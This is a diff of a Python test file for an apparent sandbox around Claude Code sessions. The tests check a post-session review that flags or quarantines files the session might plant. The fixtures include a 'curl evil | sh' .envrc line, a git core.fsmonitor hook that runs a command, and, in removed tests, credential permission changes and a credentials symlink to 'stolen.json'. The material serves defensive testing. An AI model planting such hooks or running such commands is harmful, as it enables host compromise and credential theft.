@@ -5,7 +5,6 @@ from __future__ import annotations
 
 import os
 import shutil
-import stat
 import subprocess
 from pathlib import Path
 
@@ -211,28 +210,35 @@ def test_probe_host_linked_worktree(repo, tmp_path):
     ]
     assert host.claude_home == cb.ClaudeHome(f"{os.path.realpath(home)}/.claude", (), {})
     assert host.state_dir == os.path.join(os.path.realpath(home), ".claudebox")
-    assert (host.routing, host.tun_error) == (cb.HostRouting(), None)  # read only for inet
+    assert (host.routing, host.tun_error) == (cb.HostRouting(), None)  # full reads no routing
 
 
 def test_probe_host_reads_claude_home(repo, tmp_path):
     home = tmp_path / "home"
+    store_dir = tmp_path / "store"
+    (store_dir / "agents").mkdir(parents=True)
     (home / ".claude" / "projects").mkdir(parents=True)
     (home / ".claude" / "settings.json").write_text("{}")
-    (home / ".claude" / "CLAUDE.md").symlink_to("/nix/store/x-claude.md")
+    (home / ".claude" / "stats.json").write_text("{}")
+    (home / ".claude" / "CLAUDE.md").symlink_to("/nonexistent/store/x-claude.md")
+    (home / ".claude" / "agents").symlink_to(store_dir / "agents")
     (home / ".claude.json").write_text('{"theme": "light", "mcpServers": {}}')
     host = probe(os.path.join(repo, "sub"), home)
     claude = f"{os.path.realpath(home)}/.claude"
     assert host.git == cb.GitLayout(repo, repo, f"{repo}/.git", False, "", GIT)
     assert host.cwd == os.path.join(repo, "sub")
+    agents = os.path.realpath(store_dir / "agents")
     assert host.claude_home == cb.ClaudeHome(
         claude,
-        (
-            cb.Entry(f"{claude}/CLAUDE.md", Kind.LINK, "/nix/store/x-claude.md", ""),
-            cb.Entry(f"{claude}/projects", Kind.DIR),
+        (  # the project's own (projects) is not the host's to show
+            cb.Entry(f"{claude}/CLAUDE.md", Kind.LINK, "/nonexistent/store/x-claude.md"),
+            cb.Entry(f"{claude}/agents", Kind.LINK, str(store_dir / "agents"), agents, Kind.DIR),
             cb.Entry(f"{claude}/settings.json", Kind.FILE),
+            cb.Entry(f"{claude}/stats.json", Kind.FILE),
         ),
         {"theme": "light", "mcpServers": {}},
     )
+    assert host.openssl == shutil.which("openssl", path=os.path.dirname(GIT))
 
 
 def test_probe_host_submodule_hooks_and_config_read_only(tmp_path):
@@ -477,24 +483,16 @@ def test_judge_created(session_repo, tmp_path):
 def test_review_session_reports_and_moves_aside(tmp_path):
     home = tmp_path / "home"
     (home / ".claude").mkdir(parents=True)
-    credentials = home / ".claude" / ".credentials.json"
-    credentials.write_text("{}")
-    credentials.chmod(0o600)
     top = init(tmp_path / "project")
     host = probe(top, home)
     before = cb.take_snapshot(host)
-    assert before.credentials == (stat.S_IFREG | 0o600, credentials.stat().st_ino)
+    assert before._fields == ("present", "taken")  # the host's ~/.claude is not its concern
     # the session (inside, read-only paths pinned) could create these:
     Path(top, ".envrc").write_text("curl evil | sh\n")
     Path(top, ".git", "config.worktree").write_text("[core]\n\tfsmonitor = touch /tmp/x\n")
     Path(top, ".claude").mkdir()
     Path(top, ".claude", "settings.json").write_text("{}")
-    (home / ".claude" / "statusline.sh").write_text("#!/bin/sh\n")
-    (home / ".claude" / "projects").mkdir()  # per-project: not news
-    (home / ".claude" / ".oauth_refresh.lock").write_text("")  # claude's own
-    credentials.chmod(0o644)
     findings = cb.review_session(host, before)
-    claude = os.path.realpath(home / ".claude")
     assert findings == [
         cb.Finding(
             f"{top}/.envrc",
@@ -512,16 +510,6 @@ def test_review_session_reports_and_moves_aside(tmp_path):
             "(core.fsmonitor)",
             f"{top}/.git/config.worktree.claudebox-quarantined",
         ),
-        cb.Finding(
-            f"{claude}/statusline.sh",
-            f"created {claude}/statusline.sh: a new entry in your ~/.claude, seen by every "
-            "project's sandbox and by your own claude; review it",
-        ),
-        cb.Finding(
-            f"{claude}/.credentials.json",
-            f"made {claude}/.credentials.json readable by others (mode 0644); run chmod 600 "
-            f"{claude}/.credentials.json",
-        ),
     ]
     assert not os.path.lexists(f"{top}/.git/config.worktree")
     assert Path(top, ".envrc").exists()  # reported, left in place
@@ -530,24 +518,6 @@ def test_review_session_reports_and_moves_aside(tmp_path):
         "the host's git would obey (core.fsmonitor); moved it to "
         f"{top}/.git/config.worktree.claudebox-quarantined (move it back only if you trust it)"
     )
-
-
-def test_review_session_reports_a_credentials_symlink(tmp_path):
-    home = tmp_path / "home"
-    (home / ".claude").mkdir(parents=True)
-    top = init(tmp_path / "project")
-    host = probe(top, home)
-    before = cb.take_snapshot(host)
-    credentials = home / ".claude" / ".credentials.json"
-    credentials.symlink_to(f"{top}/stolen.json")
-    claude = os.path.realpath(home / ".claude")
-    assert cb.review_session(host, before) == [
-        cb.Finding(
-            f"{claude}/.credentials.json",
-            f"replaced {claude}/.credentials.json by a symlink to {top}/stolen.json: your own "
-            "claude would follow it; remove it and log in again",
-        )
-    ]
 
 
 def test_quarantine_never_overwrites(tmp_path):
